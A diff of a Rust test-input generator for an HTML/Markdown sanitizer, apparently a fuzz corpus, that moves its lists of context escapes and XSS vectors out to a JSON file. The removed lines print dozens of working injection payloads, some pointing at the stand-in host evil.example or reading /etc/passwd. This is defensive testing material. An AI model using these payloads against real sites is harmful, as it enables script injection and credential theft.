@@ -2,118 +2,24 @@
 //! markup put together with the ways out of where a text stands. A thousand of them from a page of
 //! pieces, the same ones each time.
 
-/// Out of an attribute, an element of text, a comment, a script, a table, a link, a line of Markdown.
-const WAYS_OUT: &[&str] = &[
-    "",
-    "\">",
-    "'>",
-    "` ",
-    "</textarea>",
-    "</title>",
-    "</script>",
-    "</style>",
-    "</template>",
-    "</noscript>",
-    "</select>",
-    "</option>",
-    "</svg>",
-    "</math>",
-    "-->",
-    "--!>",
-    "<!-->",
-    "<!--",
-    "<!--<script>",
-    "]]>",
-    "<![CDATA[",
-    "</td></tr></table>",
-    "</p></div></main>",
-    "<",
-    "&lt;",
-    "\u{0}",
-    "\\\"",
-    "\u{2028}",
-    "\n\n    ",
-    "\n\n> ",
-    "\n\n- ",
-    "`",
-    "```\n",
-    "| a | b |\n|---|---|\n| ",
-    "**",
-    "[",
-    "![",
-    "<!DOCTYPE html>",
-];
+use serde::Deserialize;
 
-/// What would run or load once it is markup.
-const VECTORS: &[&str] = &[
-    "<script>pwned=1</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>pwned=1</scr</script>ipt>",
-    "<img src=x onerror=pwned=1>",
-    "<img/src=x/onerror=pwned=1//",
-    "<image href=x onerror=pwned=1>",
-    "<svg onload=pwned=1>",
-    "<svg><script href=data:,pwned=1 /></svg>",
-    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
-    "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=20>x</text></a></svg>",
-    "<svg><set attributeName=onmouseover to=pwned=1 />",
-    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x\">",
-    "<svg><foreignObject><iframe onload=pwned=1></foreignObject></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned=1>\">",
-    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
-    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=pwned=1></style></annotation-xml></math>",
-    "<math><mi//xlink:href=\"data:x,<script>pwned=1</script>\">",
-    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=pwned=1 src>\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
-    "<iframe src=javascript:pwned=1></iframe>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    "<object data=javascript:pwned=1></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<a href=javascript:pwned=1>click</a>",
-    "<a href=\"java&#x09;script:pwned=1\">click</a>",
-    "<a href=data:text/html,<script>pwned=1</script>>click</a>",
-    "<form action=//evil.example><input name=password><button formaction=javascript:pwned=1>Sign in</button></form>",
-    "<input onfocus=pwned=1 autofocus>",
-    "<details open ontoggle=pwned=1>",
-    "<body onload=pwned=1>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example'</style>",
-    "<video><source onerror=pwned=1></video>",
-    "<marquee onstart=pwned=1>",
-    "<x-holdfast onclick=pwned=1 style=position:fixed;inset:0 tabindex=1>cover</x-holdfast>",
-    "<leptos-island data-component=Copy onclick=pwned=1>",
-    "<xmp><p title=\"</xmp><img src=x onerror=pwned=1>\">",
-    "<select><template shadowrootmode=open><script>pwned=1</script></template></select>",
-    "\" onfocus=pwned=1 autofocus x=\"",
-    "' onmouseover=pwned=1 x='",
-    "x](javascript:pwned=1)",
-    "x](JaVaScRiPt:pwned=1)",
-    "x](java\tscript:pwned=1)",
-    "x](&#106;avascript&colon;pwned=1)",
-    "x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
-    "x](vbscript:pwned=1)",
-    "x](<javascript:pwned=1> \"t\")",
-    "x](//evil.example \"onmouseover=pwned=1\")",
-    "x](x\"onerror=\"pwned=1)",
-    "x]: javascript:pwned=1\n\n[x]",
-    "<javascript:pwned=1>",
-    "<https://evil.example/\"onmouseover=pwned=1>",
-    "{{constructor.constructor('pwned=1')()}}${pwned=1}#{pwned=1}<%=pwned=1%>",
-    "\\\"};pwned=1;//",
-    "#read(\"/etc/passwd\") #panic() $ x $ @ref \\#link(\"javascript:x\")",
-    "=HYPERLINK(\"//evil.example\";\"x\")",
-    "\u{202e}<script>pwned=1</script>\u{202c}",
-];
+/// The pieces.
+#[derive(Deserialize)]
+struct Pieces {
+    /// Out of an attribute, an element of text, a comment, a script, a table, a link, a line of Markdown.
+    ways_out: Vec<String>,
+    /// What would run or load once it is markup.
+    vectors: Vec<String>,
+}
 
 /// So many texts, each a way out and a vector; no two alike.
 pub fn all(count: usize) -> Vec<String> {
-    let pairs = VECTORS.len() * WAYS_OUT.len();
+    let Pieces { ways_out, vectors } = serde_json::from_str(include_str!("payloads.json")).unwrap();
+    let pairs = vectors.len() * ways_out.len();
     assert!(count <= pairs, "there are {pairs}");
     // Steps over all pairs: 7 has no factor in common with their number unless it is a factor of it.
     let step = [7, 11, 13, 17].into_iter().find(|step| !pairs.is_multiple_of(*step)).unwrap();
     let pick = |n: usize| (n * step) % pairs;
-    (0..count).map(pick).map(|at| format!("{}{}", WAYS_OUT[at / VECTORS.len()], VECTORS[at % VECTORS.len()])).collect()
+    (0..count).map(pick).map(|at| format!("{}{}", ways_out[at / vectors.len()], vectors[at % vectors.len()])).collect()
 }
